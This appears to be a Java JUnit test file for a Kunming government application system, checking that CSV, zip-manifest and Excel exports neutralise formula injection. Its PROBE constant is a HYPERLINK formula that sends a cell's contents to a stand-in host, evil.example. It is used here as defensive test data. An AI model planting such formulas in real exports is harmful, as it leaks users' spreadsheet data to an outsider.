package cn.kunming.kjj.carrier.common;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.zip.ZipInputStream;

import static org.assertj.core.api.Assertions.assertThat;

/** Formula injection (OWASP "CSV injection") in every file officers open in Excel or WPS. */
class CsvWriterTest {

    private static final String PROBE = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"点击核验\")";

    @ParameterizedTest
    @ValueSource(strings = {PROBE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"})
    void aTextCellThatASpreadsheetWouldRunIsWrittenAsText(String text) throws Exception {
        StringWriter out = new StringWriter();
        try (CsvWriter csv = new CsvWriter(out)) {
            csv.row(text, -5, "昆明市生物医药概念验证中心");
        }
        String line = out.toString();
        assertThat(line).contains("'" + text.charAt(0));
        assertThat(line).as("a negative number stays a number").contains(",-5,");
        assertThat(line).contains("昆明市生物医药概念验证中心");
    }

    @ParameterizedTest
    @ValueSource(strings = {"昆明市中试平台", "A=B", "1-2", ""})
    void ordinaryTextIsLeftAlone(String text) {
        assertThat(CsvWriter.inert(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {PROBE, "@SUM(A1)"})
    void theAttachmentZipsManifestCarriesADossierNamedLikeAFormulaAsText(String name) throws Exception {
        byte[] pdf = "%PDF-1.4 probe".getBytes(StandardCharsets.US_ASCII);
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        AttachmentZip.write(List.of(new AttachmentZip.Entry("d1", "a.pdf", DossierId.of(1), "示例单位", name, "申报书",
                Sha256.hex(pdf), () -> new ByteArrayInputStream(pdf))), zip);
        String manifest = null;
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip.toByteArray()), StandardCharsets.UTF_8)) {
            for (var e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                if (e.getName().equals(AttachmentZip.MANIFEST)) {
                    manifest = new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        assertThat(manifest).isNotNull().contains("'" + name.charAt(0)).doesNotContain("," + name.charAt(0));
    }

    @ParameterizedTest
    @ValueSource(strings = {PROBE, "@SUM(A1)", "+1+1"})
    void anXlsxExportWritesFormulaLikeTextAsAStringCellNeverAFormula(String text) throws Exception {
        byte[] xlsx = XlsxTable.write("名单", List.of("名称"), List.<List<?>>of(List.of(text)));
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            var cell = book.getSheetAt(0).getRow(1).getCell(0);
            assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
            assertThat(cell.getStringCellValue()).isEqualTo(text);
        }
    }
}
